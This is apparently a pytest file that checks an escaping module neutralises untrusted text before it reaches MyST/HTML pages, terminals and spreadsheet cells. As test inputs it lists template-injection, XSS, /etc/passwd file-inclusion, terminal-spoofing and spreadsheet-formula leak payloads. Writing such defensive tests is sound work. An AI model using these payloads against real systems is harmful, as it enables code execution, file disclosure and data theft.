"""Data text reaches each target as text only (analysis.contract.escape)."""

from __future__ import annotations

import pytest
from markdown_it.renderer import RendererHTML
from myst_parser.config.main import MdParserConfig
from myst_parser.parsers.mdit import create_md_parser

from analysis.contract import escape

# The MyST syntax the book's configuration enables (_config.yml), and more.
MYST = create_md_parser(MdParserConfig(enable_extensions={"colon_fence", "deflist",
                                                          "substitution", "dollarmath"}),
                        RendererHTML)

HOSTILE = [
    '{{ cycler.__init__.__globals__.os.system("id > /tmp/x") }}',
    "```{literalinclude} ../../../../etc/passwd\n```",
    "```{eval-rst}\n.. raw:: html\n   :file: /etc/passwd\n```",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "{download}`x </etc/passwd>`",
    ":::{note}\nx\n:::",
    "# heading",
    "- item",
    "1. item",
    "    indented code",
    "$x$ and $$y$$",
    "&lt;b&gt; &#x3C;",
    "term\n: definition",
    "a | b\n--|--\nc | d",
    "<https://example.org>",
    "***bold*** _em_ `code`",
]


def rendered_text(source: str) -> str:
    """The text a MyST source displays, when it is one plain paragraph (else the HTML)."""
    out = MYST.render(source).strip()
    if out.startswith("<p>") and out.endswith("</p>") and "<" not in out[3:-4]:
        import html
        return html.unescape(out[3:-4])
    return out


@pytest.mark.parametrize("text", HOSTILE)
def test_myst_text_displays_exactly_the_text(text):
    assert rendered_text(escape.myst_text(text)) == " ".join(text.split())


def test_myst_paragraphs_keep_paragraphs_and_nothing_else():
    text = "First <b>paragraph</b>\nstill first.\n\n```{eval-rst}\n.. raw:: html\n```"
    out = MYST.render(escape.myst_paragraphs(text))
    assert out.count("<p>") == 2
    assert "&lt;b&gt;paragraph" in out and "<b>" not in out and "<pre" not in out


def test_control_characters_never_reach_a_page():
    assert escape.myst_text("a\x00b\x1b[2Jc") == "a\ufffdb\ufffd\\[2Jc"
    assert escape.html_text("<a href='x'>\x07") == "&lt;a href=&#x27;x&#x27;&gt;\ufffd"


def test_terminal_text_shows_controls_and_invisible_characters():
    fake = "\x1b]0;owned\x07\x1b[2J\rthe data package is valid.\u200b\ufeff\u202e"
    shown = escape.terminal_text(fake)
    assert "\x1b" not in shown and "\r" not in shown and "\x07" not in shown
    assert shown.startswith("\\x1b]0;owned\\x07\\x1b[2J\\r")
    assert shown.endswith("<U+200B><U+FEFF><U+202E>")


def test_terminal_text_is_cut_and_says_so():
    assert escape.terminal_text("x" * 250, limit=200) == "x" * 200 + "... (50 more characters)"


def test_lookalikes_name_the_letter_of_the_other_script():
    assert escape.lookalikes("S\u043001") == ["'\u0430' (U+0430 CYRILLIC SMALL LETTER A)"]
    assert escape.lookalikes("S01") == [] and escape.lookalikes("Москва") == []


@pytest.mark.parametrize("cell, shown", [
    ('=HYPERLINK("http://x/?leak","click")', '\'=HYPERLINK("http://x/?leak","click")'),
    ("@SUM(1+1)", "'@SUM(1+1)"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("plain", "plain"), (-0.5, -0.5),
    (None, None),
])
def test_spreadsheet_cells_never_start_a_formula(cell, shown):
    assert escape.spreadsheet_cell(cell) == shown
